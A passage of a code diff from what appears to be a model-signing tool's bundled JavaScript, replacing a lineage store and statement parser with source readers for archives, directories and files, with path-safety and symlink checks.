+    if (!abs.startsWith(rootReal.endsWith(path13.sep) ? rootReal : rootReal + path13.sep)) {
+      return { code: "SYMLINK_OUTSIDE", path: name2, message: "signed path goes through a symlink out of the model" };
+    }
+  }
   let st2;
   try {
-    st2 = await stat7(dir);
-  } catch (e) {
-    throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${dir} not found (${errnoCode(e) ?? String(e)})`);
+    st2 = await lstat3(abs);
+  } catch {
+    return missing;
   }
-  if (!st2.isDirectory()) throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${dir} is not a directory`);
-  return new LineageStore(dir);
+  if (!st2.isFile()) return { code: "SPECIAL_FILE", path: name2, message: "signed path is not a regular file" };
+  return { name: name2, abs, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino }, stamp: { mtimeMs: st2.mtimeMs, ctimeMs: st2.ctimeMs } };
 }
-async function readStoreFile(file) {
-  try {
-    return await readRegularFile(file, MAX_BUNDLE_BYTES, { noFollow: true });
-  } catch (e) {
-    if (e instanceof NotRegularFile) return void 0;
-    if (e instanceof FileTooLarge) throw reject("LINEAGE_MALFORMED", `${file} is larger than ${MAX_BUNDLE_BYTES} bytes`);
-    const c = errnoCode(e);
-    if (c === "ENOENT" || c === "ELOOP" || c === "EISDIR" || c === "ENXIO") return void 0;
-    throw reject("LINEAGE_STORE_UNREADABLE", `cannot read ${file}: ${c ?? String(e)}`);
+async function signedUnderIgnored(walked, req) {
+  const files = [];
+  const problems = [];
+  if (walked.isFile || !req.signedPaths) return { files, problems };
+  const listed = new Set(walked.files.map((f2) => f2.name));
+  for (const name2 of req.signedPaths) {
+    if (listed.has(name2) || !isIgnored(name2, req.ignorePaths)) continue;
+    const found = await statInside(walked.root, name2, req.allowSymlinks);
+    if ("code" in found) {
+      if (found.code !== "FILE_MISSING") problems.push(found);
+    } else files.push(found);
   }
+  return { files, problems };
 }
-function safeName(name2) {
-  const s3 = name2.replace(/[^A-Za-z0-9._+-]+/g, "_").replace(/^[._]+/, "").slice(0, 100);
-  return s3 || "model";
+function toSourceFile(f2) {
+  return { name: f2.name, size: f2.size, viaLink: f2.viaLink };
 }
-async function checkStoreDir(dir) {
-  await checkWritable(dir, "dir", "WRITE_FAILED", `lineage store ${dir}`);
+function taskOf(f2, start, end) {
+  return { abs: f2.abs, start, end, expectSize: f2.size, followLink: f2.viaLink, ...f2.id ? { expectId: f2.id } : {} };
 }
-async function createStoreDir(dir) {
-  await makeDirs(dir, "WRITE_FAILED", `lineage store ${dir}`);
-}
-async function findRecordSlot(dir, meta, bytes) {
-  const hex = bareHex(meta.rootDigest);
-  const base2 = `${safeName(meta.name)}@${safeName(meta.version)}.${hex}`;
-  const digest = bundleDigestOf(bytes);
-  for (const name2 of [`${base2}.sig`, `${base2}.${digest.slice(7, 23)}.sig`]) {
-    const file = path14.join(dir, name2);
-    let st2;
-    try {
-      st2 = await lstat4(file);
-    } catch (e) {
-      if (errnoCode(e) !== "ENOENT") throw usage("WRITE_FAILED", `cannot read ${file}: ${errnoWords(e)}`);
+async function readWalked(walked, req) {
+  const extra = await signedUnderIgnored(walked, req);
+  const all = extra.files.length > 0 ? [...walked.files, ...extra.files].sort((a, b2) => compareCodePoints(a.name, b2.name)) : walked.files;
+  const listing = { root: walked.root, isFile: walked.isFile, files: all.map(toSourceFile), problems: walked.problems };
+  for (const p2 of extra.problems) listing.problems.push(p2);
+  req.onListed?.(listing);
+  const tasks = [];
+  const keys = [];
+  const keysOf = /* @__PURE__ */ new Map();
+  for (const f2 of all) {
+    const mine = [];
+    for (const [s3, e] of req.ranges(f2.name, f2.size)) {
+      tasks.push(taskOf(f2, s3, e));
+      const k2 = rangeKey(f2.name, s3, e);
+      keys.push(k2);
+      mine.push(k2);
     }
-    if (st2) {
-      if (!st2.isFile() || st2.size !== bytes.length) continue;
-      const existing = await readStoreFile(file).catch(() => void 0);
-      if (existing && existing.equals(bytes)) return { file, added: false };
+    keysOf.set(f2.name, mine);
+  }
+  const hashed = /* @__PURE__ */ new Map();
+  let bytesRead = 0;
+  if (req.alg !== void 0) {
+    const outcomes = await hashTasks(tasks, req.alg, req.engine);
+    outcomes.forEach((o, i) => {
+      hashed.set(keys[i], o);
+      bytesRead += tasks[i].end - tasks[i].start;
+    });
+  }
+  await req.onHashed?.();
+  if (req.inspector) bytesRead += await inspectAll(all, req.inspector, hashed, keysOf);
+  return { listing, hashed, bytesRead };
+}
+async function inspectAll(files, inspector, hashed, keysOf) {
+  let bytes = 0;
+  for (const f2 of files) {
+    const file = toSourceFile(f2);
+    if (!inspector.wants(file)) continue;
+    const failure = await withVerifiedFile(f2, (content) => inspector.inspect(content));
+    if (!failure) {
+      bytes += f2.size;
       continue;
     }
-    return { file, added: true };
+    inspector.unreadable(file, failure);
+    for (const k2 of keysOf.get(f2.name) ?? []) {
+      if (hashed.has(k2)) hashed.set(k2, { ok: false, code: failure.code, message: failure.message });
+    }
   }
-  throw usage("WRITE_FAILED", `lineage store ${dir} already holds different bundles named ${base2}.*`);
+  return bytes;
 }
-async function recordBundle(dir, meta, bytes) {
-  await createStoreDir(dir);
-  const slot = await findRecordSlot(dir, meta, bytes);
-  if (slot.added) await writeAtomic(slot.file, bytes);
-  return slot;
-}
-var MAX_STORE_ENTRIES, MAX_CANDIDATES, MAX_STORE_READ_BYTES, ENTRY_RE, LineageStore;
-var init_store = __esm({
-  "src/lineage/store.ts"() {
+var init_local_read = __esm({
+  "src/source/local-read.ts"() {
     "use strict";
-    init_errors();
-    init_bundle();
-    init_write_atomic();
-    init_errno();
-    init_metadata();
-    init_read_file();
-    MAX_STORE_ENTRIES = 1e5;
-    MAX_CANDIDATES = 16;
-    MAX_STORE_READ_BYTES = 256 * 1024 * 1024;
-    ENTRY_RE = /(?:^|[^0-9a-f])([0-9a-f]{64})(?:\.[0-9a-f]{1,64})?\.sig$/;
-    LineageStore = class {
-      dir;
-      index;
-      bytesRead = 0;
-      constructor(dir) {
-        this.dir = dir;
-      }
-      /** Map root digest (hex) -> candidate file names, built once from the listing. */
-      async buildIndex() {
-        if (this.index) return this.index;
-        const idx = /* @__PURE__ */ new Map();
-        let d;
-        try {
-          d = await opendir(this.dir);
-        } catch (e) {
-          throw usage("LINEAGE_STORE_UNREADABLE", `lineage store ${this.dir} cannot be read: ${errnoCode(e) ?? String(e)}`);
-        }
-        let n = 0;
-        try {
-          for await (const ent of d) {
-            if (++n > MAX_STORE_ENTRIES) throw reject("LINEAGE_STORE_TOO_LARGE", `lineage store ${this.dir} has more than ${MAX_STORE_ENTRIES} entries`);
-            if (ent.isDirectory() || ent.isSymbolicLink() || ent.isFIFO() || ent.isSocket() || ent.isBlockDevice() || ent.isCharacterDevice()) continue;
-            const m2 = ENTRY_RE.exec(ent.name);
-            if (!m2) continue;
-            const list2 = idx.get(m2[1]) ?? [];
-            if (list2.length < MAX_CANDIDATES) list2.push(ent.name);
-            idx.set(m2[1], list2);
-          }
-        } finally {
-          await d.close().catch(() => void 0);
-        }
-        for (const l of idx.values()) l.sort();
-        this.index = idx;
-        return idx;
-      }
-      /** Every bundle filed under this root digest (unverified bytes). */
-      async find(rootDigest2) {
-        const idx = await this.buildIndex();
-        const names = idx.get(bareHex(rootDigest2)) ?? [];
-        const out2 = [];
-        for (const name2 of names) {
-          const file = path14.join(this.dir, name2);
-          const bytes = await readStoreFile(file);
-          if (!bytes) continue;
-          this.bytesRead += bytes.length;
-          if (this.bytesRead > MAX_STORE_READ_BYTES) throw reject("LINEAGE_STORE_TOO_LARGE", `lineage store ${this.dir}: more than ${MAX_STORE_READ_BYTES} bytes of bundles read in one walk`);
-          out2.push({ file, bytes, bundleDigest: bundleDigestOf(bytes) });
-        }
-        return out2;
-      }
-    };
+    init_engine();
+    init_paths();
+    init_ranges();
+    init_verified_file();
   }
 });
 
-// src/oms/statement.ts
-function buildStatement(opts) {
-  const subject = { name: opts.name, digest: { sha256: opts.rootDigest } };
-  if (opts.metadata) subject.annotations = { modelsign: opts.metadata };
+// src/source/archive.ts
+import { createReadStream as createReadStream2 } from "node:fs";
+import { stat as stat7 } from "node:fs/promises";
+import path14 from "node:path";
+function isArchivePath2(p2) {
+  return ARCHIVE_RE2.test(p2);
+}
+function archiveSource(model) {
   return {
-    _type: STATEMENT_TYPE,
-    subject: [subject],
-    predicateType: OMS_PREDICATE_TYPE,
-    predicate: { serialization: opts.serialization, resources: opts.resources }
+    kind: "archive",
+    model,
+    defaultIgnores: [EMBEDDED_SIGNATURE],
+    defaultName: () => path14.basename(path14.resolve(model)).replace(ARCHIVE_RE2, "") || "model",
+    defaultSignaturePath: () => `${model}.sig`,
+    read: (req) => readArchive(model, req)
   };
 }
-function bad3(msg) {
-  throw reject("STATEMENT_MALFORMED", `signed statement is malformed: ${msg}`);
-}
-function str(v2, what) {
-  if (typeof v2 !== "string") bad3(`${what} must be a string`);
-  return v2;
-}
-function parseResources(v2, hashType) {
-  if (!Array.isArray(v2)) bad3("predicate.resources must be an array");
-  if (v2.length > MAX_RESOURCES) bad3(`more than ${MAX_RESOURCES} resources`);
-  return v2.map((r, i) => {
-    if (!isObject(r)) bad3(`resources[${i}] must be an object`);
-    const name2 = str(r.name, `resources[${i}].name`);
-    const digest = str(r.digest, `resources[${i}].digest`);
-    const algorithm = str(r.algorithm, `resources[${i}].algorithm`);
-    if (!HEX.test(digest)) bad3(`resources[${i}].digest is not lowercase hex`);
-    if (algorithm !== hashType && !algorithm.startsWith(`${hashType}-`)) {
-      bad3(`resources[${i}].algorithm "${algorithm}" does not match hash_type "${hashType}"`);
-    }
-    return { name: name2, digest, algorithm };
+async function readArchive(model, req) {
+  const r = await scanArchive(model, {
+    alg: req.alg ?? "sha256",
+    ranges: req.alg ? req.ranges : () => [],
+    allowSymlinks: req.allowSymlinks,
+    ignorePaths: req.ignorePaths,
+    ...req.signedPaths ? { signedPaths: req.signedPaths } : {},
+    ...req.engine?.onProgress ? { onProgress: req.engine.onProgress } : {},
+    ...req.onRestart ? { onRestart: req.onRestart } : {}
   });
-}
-function parseSerialization(v2) {
-  if (!isObject(v2)) bad3("predicate.serialization must be an object");
-  const method = v2.method;
-  if (method !== "files" && method !== "shards") bad3(`unknown serialization method ${JSON.stringify(method)}`);
-  const hashType = v2.hash_type;
-  if (!isHashAlgorithm(hashType)) bad3(`unknown hash_type ${JSON.stringify(hashType)}`);
-  const allow = v2.allow_symlinks;
-  if (typeof allow !== "boolean") bad3("serialization.allow_symlinks must be a boolean");
-  const out2 = { method, hash_type: hashType, allow_symlinks: allow };
-  if (v2.ignore_paths !== void 0) {
-    if (!Array.isArray(v2.ignore_paths) || !v2.ignore_paths.every((p2) => typeof p2 === "string")) bad3("ignore_paths must be an array of strings");
-    out2.ignore_paths = v2.ignore_paths;
+  req.engine?.onDone?.();
+  await req.onHashed?.();
+  const listing = { ...r.listing, files: r.listing.files.map(toSourceFile) };
+  let bytesRead = (await stat7(model)).size;
+  if (req.inspector) {
+    const unreadable = listing.problems.some((p2) => p2.path === void 0 && p2.code === "ARCHIVE_MALFORMED");
+    await inspectEntries(model, listing.files, req.inspector).catch((e) => {
+      if (!unreadable) throw e;
+    });
+    bytesRead *= 2;
   }
-  if (method === "shards") {
-    const s3 = v2.shard_size;
-    if (typeof s3 !== "number" || !Number.isSafeInteger(s3) || s3 <= 0) bad3("shard_size must be a positive integer");
-    out2.shard_size = s3;
+  return { listing, hashed: r.hashed, bytesRead };
+}
+async function inspectEntries(model, files, inspector) {
+  const byName = new Map(files.map((f2) => [f2.name, f2]));
+  const nameOf = (raw) => {
+    let s3 = raw;
+    while (s3.startsWith("./")) s3 = s3.slice(2);
+    return byName.get(s3) ?? (s3.includes("/") ? byName.get(s3.slice(s3.indexOf("/") + 1)) : void 0);
+  };
+  const { Parser } = await Promise.resolve().then(() => (init_index_min(), index_min_exports));
+  let chain = Promise.resolve();
+  let failure;
+  const parser = new Parser({
+    strict: true,
+    onReadEntry: (entry) => {
+      chain = chain.then(async () => {
+        const file = entry.type === "File" || entry.type === "OldFile" || entry.type === "ContiguousFile" ? nameOf(entry.path) : void 0;
+        if (!file || !inspector.wants(file)) return void entry.resume();
+        const it2 = entry[Symbol.asyncIterator]();
+        const shielded = { next: () => it2.next(), return: async () => ({ done: true, value: void 0 }) };
+        let taken = false;
+        await inspector.inspect({
+          file,
+          bytes: () => {
+            if (taken) throw new Error("an archive entry streams once");
+            taken = true;
+            return new ByteSource(shielded, entry.size);
+          }
+        });
+        while (!(await it2.next()).done) ;
+      }).catch((e) => {
+        failure ??= e;
+        entry.resume();
+      });
+    }
+  });
+  await new Promise((resolve, reject2) => {
+    parser.on("end", resolve);
+    parser.on("close", resolve);
+    parser.on("error", reject2);
+    const input = createReadStream2(model);
+    input.on("error", reject2);
+    input.pipe(parser);
+  });
+  await chain;
+  if (failure) throw failure;
+}
+var ARCHIVE_RE2;
+var init_archive2 = __esm({
+  "src/source/archive.ts"() {
+    "use strict";
+    init_archive();
+    init_source();
+    init_local_read();
+    ARCHIVE_RE2 = /\.(tar|tar\.gz|tgz)$/i;
+  }
+});
+
+// src/source/walk.ts
+import { isUtf8 as isUtf82 } from "node:buffer";
+import { lstatSync, readdirSync, realpathSync, statSync } from "node:fs";
+import { lstat as lstat4, realpath as realpath2 } from "node:fs/promises";
+import path15 from "node:path";
+function within(rootReal, target) {
+  return target === rootReal || target.startsWith(rootReal.endsWith(path15.sep) ? rootReal : rootReal + path15.sep);
+}
+function kindOf(st2) {
+  if (st2.isFIFO()) return "FIFO";
+  if (st2.isSocket()) return "socket";
+  if (st2.isCharacterDevice()) return "character device";
+  if (st2.isBlockDevice()) return "block device";
+  return "special file";
+}
+function readNames(absDir) {
+  const names = readdirSync(absDir);
+  let suspect = false;
+  for (const n of names) {
+    if (n.includes("\uFFFD")) {
+      suspect = true;
+      break;
+    }
+  }
+  if (!suspect) return { names, invalid: NO_BYTES };
+  const valid = [];
+  const invalid2 = [];
+  for (const raw of readdirSync(absDir, { encoding: "buffer" })) {
+    if (isUtf82(raw)) valid.push(raw.toString("utf8"));
+    else invalid2.push(raw);
+  }
+  return { names: valid, invalid: invalid2 };
+}
+function realTarget(abs) {
+  const target = realpathSync.native(abs);
+  if (!target.includes("\uFFFD")) return target;
+  const raw = realpathSync.native(abs, { encoding: "buffer" });
+  return isUtf82(raw) ? raw.toString("utf8") : void 0;
+}
+function escapeName(raw) {
+  let out2 = "";
+  let i = 0;
+  while (i < raw.length) {
+    const b2 = raw[i];
+    const n = utf8SequenceLength(raw, i);
+    if (n === 1 && b2 >= 32 && b2 !== 127 && b2 !== 92) out2 += String.fromCharCode(b2);
+    else if (n > 1) out2 += Buffer.from(raw.subarray(i, i + n)).toString("utf8");
+    else out2 += `\\x${b2.toString(16).padStart(2, "0")}`;
+    i += n > 0 ? n : 1;
   }
   return out2;
 }
-function parseMetadata(subject) {
-  const ann = subject.annotations;
-  if (ann === void 0) return void 0;
-  if (!isObject(ann)) bad3("subject annotations must be an object");
-  const m2 = ann.modelsign;
-  if (m2 === void 0) return void 0;
-  if (!isObject(m2)) bad3("annotations.modelsign must be an object");
-  for (const k2 of ["name", "version", "license", "created", "tool"]) {
-    if (m2[k2] !== void 0 && typeof m2[k2] !== "string") bad3(`annotations.modelsign.${k2} must be a string`);
-  }
-  return { ...m2, name: typeof m2.name === "string" ? m2.name : str(subject.name, "subject.name") };
+function utf8SequenceLength(raw, i) {
+  const b2 = raw[i];
+  if (b2 < 128) return 1;
+  const cont = (k2, lo2 = 128, hi2 = 191) => i + k2 < raw.length && raw[i + k2] >= lo2 && raw[i + k2] <= hi2;
+  if (b2 >= 194 && b2 <= 223) return cont(1) ? 2 : 0;
+  if (b2 === 224) return cont(1, 160) && cont(2) ? 3 : 0;
+  if (b2 === 237) return cont(1, 128, 159) && cont(2) ? 3 : 0;
+  if (b2 >= 225 && b2 <= 239) return cont(1) && cont(2) ? 3 : 0;
+  if (b2 === 240) return cont(1, 144) && cont(2) && cont(3) ? 4 : 0;
+  if (b2 >= 241 && b2 <= 243) return cont(1) && cont(2) && cont(3) ? 4 : 0;
+  if (b2 === 244) return cont(1, 128, 143) && cont(2) && cont(3) ? 4 : 0;
+  return 0;
 }
-function parseStatement(payload) {
-  let text;
+function fsErrorCode(e) {
+  const c = e instanceof Error ? errnoCode(e) : void 0;
+  return c !== void 0 && /^E[A-Z0-9]+$/.test(c) ? c : void 0;
+}
+function fsProblem(e, rel, op, abs) {
+  const c = fsErrorCode(e);
+  if (c === void 0) throw e;
+  if (c === "ENAMETOOLONG") {
+    return { code: "PATH_TOO_LONG", path: rel, message: `path too long to open (ENAMETOOLONG): ${Buffer.byteLength(abs)} bytes as an absolute path` };
+  }
+  const what = op === "list" ? "cannot list directory" : "cannot read file information";
+  return { code: "UNREADABLE", path: rel, message: c === "EACCES" || c === "EPERM" ? `${what}: permission denied (${c})` : `${what} (${c})` };
+}
+async function enumerateModel(model, opts) {
+  const root = path15.resolve(model);
+  let st2;
   try {
-    text = new TextDecoder("utf-8", { fatal: true }).decode(payload);
-  } catch {
-    bad3("payload is not UTF-8");
+    st2 = await lstat4(root);
+  } catch (e) {
+    throw modelPathError(model, e);
   }
-  const st2 = parseStrictJson(text, { what: "signed statement", code: "STATEMENT_MALFORMED" });
-  if (!isObject(st2)) bad3("not a JSON object");
-  if (st2._type !== STATEMENT_TYPE) bad3(`_type is ${JSON.stringify(st2._type)}, expected ${STATEMENT_TYPE}`);
-  if (st2.predicateType === LEGACY_PREDICATE_TYPE) {
-    return readLegacyStatement(st2);
+  const problems = [];
+  if (st2.isSymbolicLink()) {
+    const real = await realpath2(root);
+    return enumerateModel(real, opts);
   }
-  if (st2.predicateType !== OMS_PREDICATE_TYPE) {
-    throw reject("UNSUPPORTED_FORMAT", `predicate type ${JSON.stringify(st2.predicateType)} is not an OMS v1.0 model signature`);
+  if (st2.isFile()) {
+    return { root, isFile: true, files: [{ name: path15.basename(root), abs: root, size: st2.size, viaLink: false, id: { dev: st2.dev, ino: st2.ino }, stamp: stampOf(st2) }], problems };
   }
-  const subjects = st2.subject;
-  if (!Array.isArray(subjects) || subjects.length !== 1) bad3("exactly one subject is required");
-  const subject = subjects[0];
-  if (!isObject(subject)) bad3("subject must be an object");
-  const name2 = str(subject.name, "subject.name");
-  if (!isObject(subject.digest)) bad3("subject.digest must be an object");
-  const root = subject.digest.sha256;
-  if (typeof root !== "string" || !/^[0-9a-f]{64}$/.test(root)) bad3("subject.digest.sha256 must be 64 lowercase hex characters");
-  const pred = st2.predicate;
-  if (!isObject(pred)) bad3("predicate must be an object");
-  const serialization = parseSerialization(pred.serialization);
-  const resources = parseResources(pred.resources, serialization.hash_type);
-  return { format: "oms-v1.0", subjectName: name2, rootDigest: root, serialization, resources, metadata: parseMetadata(subject), raw: st2 };
+  if (!st2.isDirectory()) {
+    throw usage("SPECIAL_FILE", `model is a ${kindOf(st2)}, not a file or directory: ${model}`);
+  }
+  const rootReal = await realpath2(root);
+  const maxFiles = opts.maxFiles ?? DEFAULT_MAX_FILES;
+  const maxDepth = opts.maxDepth ?? DEFAULT_MAX_DEPTH;
+  const files = [];
+  const visitedDirs = /* @__PURE__ */ new Set();
+  const replaced = (rel) => {
+    problems.push({ code: "FILE_REPLACED", path: rel === "" ? "." : rel, message: "directory was replaced while the model was being listed" });
+  };
+  const stillDir = (absDir, id2) => {
+    try {
+      const s3 = lstatSync(absDir, { throwIfNoEntry: false });
+      return s3 !== void 0 && s3.isDirectory() && s3.dev === id2.dev && s3.ino === id2.ino;
+    } catch {
+      return false;
+    }
+  };
+  const walk = (absDir, rel, depth, viaLink, expect) => {
+    const at2 = rel === "" ? "." : rel;
+    if (depth > maxDepth) {
+      problems.push({ code: "TOO_DEEP", path: rel, message: `directory nesting deeper than ${maxDepth}` });
+      return;
+    }
+    let dst;
+    let listed;
+    let again;
+    try {
+      dst = lstatSync(absDir);
+      if (!dst.isDirectory() || expect && (dst.dev !== expect.dev || dst.ino !== expect.ino)) return replaced(rel);
+      const key = `${dst.dev}:${dst.ino}`;
+      if (visitedDirs.has(key)) {
+        problems.push({ code: "SYMLINK_LOOP", path: rel, message: "directory reached twice through symlinks" });
+        return;
+      }
+      visitedDirs.add(key);
+      listed = readNames(absDir);
+      again = lstatSync(absDir);
+    } catch (e) {
+      const c = fsErrorCode(e);
+      if (c === "ENOENT" || c === "ENOTDIR") return replaced(rel);
+      problems.push(fsProblem(e, at2, "list", absDir));
+      return;
+    }
+    if (!again.isDirectory() || again.dev !== dst.dev || again.ino !== dst.ino) return replaced(rel);
+    const id2 = { dev: dst.dev, ino: dst.ino };
+    const prefix = absDir.endsWith(path15.sep) ? absDir : absDir + path15.sep;
+    for (const raw of listed.invalid) {
+      const name2 = rel === "" ? escapeName(raw) : `${rel}/${escapeName(raw)}`;
+      if (isIgnored(name2, opts.ignorePaths)) continue;
+      let isDir = false;
+      try {
+        isDir = lstatSync(Buffer.concat([Buffer.from(prefix), raw]), { throwIfNoEntry: false })?.isDirectory() ?? false;
+      } catch {
+      }
+      problems.push({ code: "UNSAFE_NAME", path: name2, message: `${isDir ? "directory" : "file"} name is not valid UTF-8` });
+    }
+    for (const entry of listed.names) {
+      const name2 = rel === "" ? entry : `${rel}/${entry}`;
+      if (isIgnored(name2, opts.ignorePaths)) continue;
+      const abs = prefix + entry;
+      let est;
+      try {
+        est = lstatSync(abs, { throwIfNoEntry: false });
+      } catch (e) {
+        if (!stillDir(absDir, id2)) return replaced(rel);
+        problems.push(fsProblem(e, name2, "stat", abs));
+        continue;
+      }
+      if (!est) {
+        if (!stillDir(absDir, id2)) return replaced(rel);
+        continue;
+      }
+      if (est.isSymbolicLink()) {
+        let target;
+        try {
+          target = realTarget(abs);
+        } catch (e) {
+          const c = fsErrorCode(e);
+          if (c === "ENOENT" || c === "ELOOP" || c === "ENOTDIR") problems.push({ code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" });
+          else problems.push(fsProblem(e, name2, "stat", abs));
+          continue;
+        }
+        if (target === void 0) {
+          problems.push({ code: "UNSAFE_NAME", path: name2, message: "symlink target path is not valid UTF-8" });
+          continue;
+        }
+        if (!within(rootReal, target)) {
+          problems.push({ code: "SYMLINK_OUTSIDE", path: name2, message: "symlink points outside the model" });
+          continue;
+        }
+        if (!opts.allowSymlinks) {
+          problems.push({ code: "SYMLINK_REFUSED", path: name2, message: "symlinks are not allowed (use --allow-symlinks for links inside the model)" });
+          continue;
+        }
+        let tst;
+        try {
+          tst = statSync(target);
+        } catch (e) {
+          if (fsErrorCode(e) === "ENOENT") problems.push({ code: "SYMLINK_BROKEN", path: name2, message: "symlink target does not exist" });
+          else problems.push(fsProblem(e, name2, "stat", target));
+          continue;
+        }
+        if (tst.isDirectory()) walk(target, name2, depth + 1, true, { dev: tst.dev, ino: tst.ino });
+        else if (tst.isFile()) files.push({ name: name2, abs: target, size: tst.size, viaLink: true, id: { dev: tst.dev, ino: tst.ino }, stamp: stampOf(tst) });
+        else problems.push({ code: "SPECIAL_FILE", path: name2, message: `symlink to a ${kindOf(tst)}` });
+      } else if (est.isDirectory()) {
+        walk(abs, name2, depth + 1, viaLink, { dev: est.dev, ino: est.ino });
+      } else if (est.isFile()) {
+        files.push({ name: name2, abs, size: est.size, viaLink, id: { dev: est.dev, ino: est.ino }, stamp: stampOf(est) });
+      } else {
+        problems.push({ code: "SPECIAL_FILE", path: name2, message: `${kindOf(est)} is not a regular file` });
+      }
+      if (files.length > maxFiles) {
+        throw usage("TOO_MANY_FILES", `model has more than ${maxFiles} files`);
+      }
+    }
+  };
+  walk(root, "", 0, false);
+  files.sort((a, b2) => compareCodePoints(a.name, b2.name));
+  problems.sort((a, b2) => compareCodePoints(a.path ?? "", b2.path ?? ""));
+  return { root, isFile: false, files, problems };
 }
-var STATEMENT_TYPE, OMS_PREDICATE_TYPE, HEX, MAX_RESOURCES;
-var init_statement = __esm({
-  "src/oms/statement.ts"() {
+var stampOf, DEFAULT_MAX_FILES, DEFAULT_MAX_DEPTH, NO_BYTES;
+var init_walk = __esm({
+  "src/source/walk.ts"() {
     "use strict";
     init_errors();
-    init_algorithms2();
-    init_strict_json();
-    init_legacy();
-    STATEMENT_TYPE = "https://in-toto.io/Statement/v1";
-    OMS_PREDICATE_TYPE = "https://model_signing/signature/v1.0";
-    HEX = /^[0-9a-f]+$/;
-    MAX_RESOURCES = 1e6;
+    init_model_path();
+    init_paths();
+    stampOf = (s3) => ({ mtimeMs: s3.mtimeMs, ctimeMs: s3.ctimeMs });
+    DEFAULT_MAX_FILES = 1e6;
+    DEFAULT_MAX_DEPTH = 128;
+    NO_BYTES = [];
+  }
+});
+
+// src/source/directory.ts
+import path16 from "node:path";
+function directorySource(model) {
+  return {
+    kind: "directory",
+    model,
+    defaultIgnores: [],
+    defaultName: () => path16.basename(path16.resolve(model)) || "model",
+    defaultSignaturePath: () => path16.join(model, "model.sig"),
+    read: async (req) => readWalked(await enumerateModel(model, { ignorePaths: req.ignorePaths, allowSymlinks: req.allowSymlinks }), req)
+  };
+}
+var init_directory = __esm({
+  "src/source/directory.ts"() {
+    "use strict";
+    init_local_read();
+    init_walk();
+  }
+});
+
+// src/source/file.ts
+import path17 from "node:path";
+function fileSource(model) {
+  return {
+    kind: "file",
+    model,
+    defaultIgnores: [],
+    defaultName: () => path17.basename(path17.resolve(model)).replace(/\.(tar\.gz|tgz|tar)$/i, "") || "model",
+    defaultSignaturePath: () => `${model}.sig`,
+    read: async (req) => readWalked(await enumerateModel(model, { ignorePaths: [], allowSymlinks: req.allowSymlinks }), req)
+  };
+}
+var init_file = __esm({
+  "src/source/file.ts"() {
+    "use strict";
+    init_local_read();
+    init_walk();
+  }
+});
+
+// src/source/index.ts
+async function openSource(model, opts = {}) {
+  if (model === "") throw usage("MODEL_NOT_FOUND", "model not found: the model path is empty");
+  for (const s3 of SCHEMES) if (s3.test(model)) return s3.open(model, opts);
+  const st2 = await statModel(model);
+  if (st2.isDirectory()) return directorySource(model);
+  if (st2.isFile() && isArchivePath2(model) && !opts.archiveAsFile) return archiveSource(model);
+  return fileSource(model);
+}
+var SCHEMES;
+var init_source3 = __esm({
+  "src/source/index.ts"() {
+    "use strict";
+    init_errors();
+    init_model_path();
+    init_archive2();
+    init_directory();
+    init_file();
+    init_archive2();
+    SCHEMES = [];
+  }
+});
+
+// src/verify/files.ts
+function parseShardName(name2) {
+  const m2 = /^(.*):(\d{1,16}):(\d{1,16})$/s.exec(name2);
+  if (!m2) return void 0;
+  const start = Number(m2[2]);
+  const end = Number(m2[3]);
+  if (!Number.isSafeInteger(start) || !Number.isSafeInteger(end) || end < start) return void 0;
+  return { path: m2[1], start, end };
+}
+function shardsEnd(ranges) {
+  ranges.sort((a, b2) => a.start - b2.start || a.end - b2.end);
+  if (ranges.length === 1 && ranges[0].start === 0 && ranges[0].end === 0) return 0;
+  let pos = 0;
+  for (const r of ranges) {
+    if (r.start !== pos || r.end <= r.start) return void 0;
+    pos = r.end;
+  }
+  return ranges.length > 0 ? pos : void 0;
+}
+function groupResources(resources, ser, onlyFile) {
+  const failures = [];
+  const byFile = /* @__PURE__ */ new Map();
+  for (const r of resources) {
+    let p2;
+    let start = 0;
+    let end = -1;
+    if (ser.method === "shards") {
+      const s3 = parseShardName(r.name);
+      if (!s3) {
+        failures.push({ code: "UNSAFE_NAME", path: r.name, message: 'shard resource name is not "path:start:end"' });
+        continue;
+      }
+      ({ path: p2, start, end } = s3);
+    } else {
+      p2 = r.name;
+    }
+    if (onlyFile !== void 0) {
+      if (p2 === "." || p2 === onlyFile) p2 = onlyFile;
+    } else if (p2 !== "." || ser.method !== "files") {
+      const why2 = unsafeNameReason(p2);
+      if (why2) {
+        failures.push({ code: "UNSAFE_NAME", path: p2, message: `unsafe resource name in signature: ${why2}` });
+        continue;
+      }
+    }
+    const list2 = byFile.get(p2) ?? [];
+    list2.push({ resource: r, start, end });
+    byFile.set(p2, list2);
+  }
+  return { byFile, failures };
+}
+function specialModelIsRejection(e) {
+  if (e instanceof ModelsignError && e.code === "SPECIAL_FILE") throw reject("SPECIAL_FILE", e.message);
+  throw e;
+}
+async function checkFiles(input) {
+  const { serialization: ser, source } = input;
+  const failures = [];
+  const ignores = effectiveIgnores(input.model, input.signaturePath, [...source.defaultIgnores, ...ser.ignore_paths ?? []], input.ignorePaths);
+  let grouped = groupResources(input.resources, ser, void 0);
+  const read = await source.read({
+    ...sourceRequest(input, ignores, () => grouped.byFile),
+    onListed: (listing2) => {
+      if (listing2.isFile && listing2.files.length === 1) grouped = groupResources(input.resources, ser, listing2.files[0].name);
+    }
+  }).catch(specialModelIsRejection);
+  const listing = read.listing;
+  const byFile = grouped.byFile;
+  const onDisk = new Map(listing.files.map((f2) => [f2.name, f2]));
+  for (const f2 of grouped.failures) failures.push(f2);
+  let signedDirs;
+  const concernsSigned = (p2) => {
+    if (byFile.has(p2)) return true;
+    if (!signedDirs) {
+      signedDirs = /* @__PURE__ */ new Set();
+      for (const name2 of byFile.keys()) {
+        for (let i = name2.indexOf("/"); i >= 0; i = name2.indexOf("/", i + 1)) signedDirs.add(name2.slice(0, i));
+      }
+    }
+    return signedDirs.has(p2);
+  };
+  for (const p2 of listing.problems) {
+    if (input.ignoreUnsignedFiles && p2.path !== void 0 && p2.path !== "." && p2.code !== "UNSAFE_NAME" && !concernsSigned(p2.path)) continue;
+    failures.push(p2);
+  }
+  const problemPaths = new Set(listing.problems.map((x) => x.path));
+  const changed = /* @__PURE__ */ new Set();
+  let bytesHashed = 0;
+  for (const [name2, ranges] of byFile) {
+    const f2 = onDisk.get(name2);
+    if (!f2) {
